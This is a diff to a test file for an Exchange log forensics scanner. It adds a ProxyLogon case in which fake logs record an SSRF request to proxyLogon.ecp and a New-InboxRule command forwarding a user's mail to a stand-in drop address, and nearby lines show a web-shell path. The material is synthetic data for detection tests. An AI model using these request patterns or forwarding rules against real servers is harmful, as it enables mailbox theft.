@@ -5,7 +5,7 @@ import { join } from 'node:path';
 import { after, before, test } from 'node:test';
 import { mergedTimeline } from '../correlate/timeline.js';
 import { scan } from './run.js';
-import { ewsLog, httpProxyLog, iisLog, rpsCmdletLog } from './test-helpers.js';
+import { ewsLog, httpProxyLog, iisLog, messageTrackingLog, rpsCmdletLog } from './test-helpers.js';
 
 // Small bundles where the right answer is known, checked exactly: whose mailboxes, how far, and
 // what the logs cannot see.
@@ -42,6 +42,18 @@ before(async () => {
     `2021-03-04 11:00:00 10.0.0.3 POST /aspnet_client/shell.aspx - 443 - ${SECOND} Mozilla/5.0 - 200 0 0 10`,
     `2021-03-04 11:05:00 10.0.0.3 GET /owa/ - 443 - ${SECOND} Mozilla/5.0 - 302 0 0 10`,
     '2021-03-04 11:06:00 10.0.0.3 GET /owa/ - 443 - 192.0.2.77 Mozilla/5.0 - 302 0 0 10',
+  ]));
+
+  // Case 4, EX04: after the SSRF, an inbox rule forwards alice's mail out; days later tracking shows it leaving.
+  await put('forward-case/EX04/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG', httpProxyLog('EX04', [
+    { DateTime: '2021-03-03T02:00:00.000Z', RequestId: 'f1', Protocol: 'Ecp', UrlStem: '/ecp/x.js', AnchorMailbox: 'ServerInfo~a]@EX04.corp.local:444/ecp/proxyLogon.ecp?#', ClientIpAddress: ATTACKER, UserAgent: 'python-requests/2.25.1', HttpStatus: '241', Method: 'POST' },
+  ]));
+  await put('forward-case/EX04/Rps_Cmdlet/Rps_Cmdlet_2021030302-1.LOG', rpsCmdletLog('EX04', [
+    { DateTime: '2021-03-03T02:05:00.000Z', Cmdlet: 'New-InboxRule', Parameters: '-Mailbox "alice@corp.je" -Name "x" -ForwardTo "drop@mail.example"', AuthenticatedUser: 'NT AUTHORITY\\SYSTEM', ExecutionResult: 'Success' },
+  ]));
+  await put('forward-case/EX04/MessageTracking/MSGTRK2021030609-1.LOG', messageTrackingLog('EX04', [
+    { 'date-time': '2021-03-06T09:00:00.000Z', 'event-id': 'SEND', source: 'SMTP', 'sender-address': 'alice@corp.je', 'recipient-address': 'drop@mail.example', 'message-subject': 'Client KYC pack', 'server-hostname': 'EX04' },
+    { 'date-time': '2021-03-06T09:05:00.000Z', 'event-id': 'SEND', source: 'SMTP', 'sender-address': 'bob@corp.je', 'recipient-address': 'partner@law.example', 'message-subject': 'Lunch', 'server-hostname': 'EX04' },
   ]));
 
   // Case 3, EX02: logs that start after the ProxyLogon window opened, and no attack in them.
@@ -113,4 +125,14 @@ test('logs that start after the attack window opened are a gap, said as plainly 
   assert.match(ex02?.wouldChange ?? '', /logs from those periods could change this/);
   const httpproxy = result.coverage.find((c) => c.server === 'EX02' && c.source === 'httpproxy');
   assert.deepEqual([httpproxy?.files, httpproxy?.records, httpproxy?.firstTime], [1, 1, '2021-03-05T09:00:00.000Z']);
+});
+
+test('mail the attacker had forwarded is found in message tracking, days after the rule was set', async () => {
+  const result = await scan({ inputs: [join(dir, 'forward-case')], threads: 1 });
+  const alice = result.mailboxes.find((m) => m.mailbox === 'alice@corp.je');
+  assert.equal(alice?.level, 'exported');
+  assert.deepEqual(alice?.forwardedTo, ['drop@mail.example']);
+  assert.deepEqual(result.mail.map((m) => [m.time, m.sender, m.recipients, m.subject, m.why, m.origin.line]), [
+    ['2021-03-06T09:00:00.000Z', 'alice@corp.je', 'drop@mail.example', 'Client KYC pack', 'sent to drop@mail.example, where the attacker had mail forwarded', 6],
+  ]);
 });
